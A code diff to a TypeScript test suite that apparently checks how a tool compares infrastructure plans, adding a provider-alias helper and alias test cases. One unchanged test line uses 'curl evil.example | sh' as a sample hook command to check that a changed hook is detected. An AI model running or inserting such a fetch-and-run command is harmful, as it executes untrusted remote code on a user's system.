@@ -25,8 +25,8 @@ import {
   vm,
   vmUpdate,
   webQuote,
-  type Change,
   type PlanOptions,
+  type Change,
   type Values,
 } from "../plans";
 import { input, plan, report } from "../support";
@@ -151,6 +151,12 @@ describe("also covered", () => {
     },
     variables: { endpoint: { value: endpoint } },
   });
+  const aliased = (item: Change, key: string): PlanOptions => ({
+    changes: [item],
+    configuration: {
+      root_module: { resources: [{ address: item.address, provider_config_key: key, expressions: { a: {} } }] },
+    },
+  });
   const account = (id: string): PlanOptions => ({
     changes: [vmUpdate()],
     prior: [data("zenlayer_balance", { account_id: id, purchasing_power: 1 })],
@@ -177,6 +183,16 @@ describe("also covered", () => {
       "on_destroy of what is forgotten",
       { changes: [gone({})] },
       { changes: [gone({ on_destroy: "cancel_scheduled" })] },
+    ],
+    [
+      "by which provider of a name others create",
+      aliased(foreign(["create"], null, { a: 1 }), "zenlayercloud.eu"),
+      aliased(foreign(["create"], null, { a: 1 }), "module.m:zenlayercloud.us"),
+    ],
+    [
+      "by which provider of a name ours is managed",
+      aliased(vmUpdate(), "zenlayer.eu"),
+      aliased(vmUpdate(), "zenlayer"),
     ],
     ["the command of a hook", hook("npm test"), hook("curl evil.example | sh")],
     ["whether an action is invoked", { changes: [vmUpdate()] }, { changes: [vmUpdate()], ...invoking({}) }],
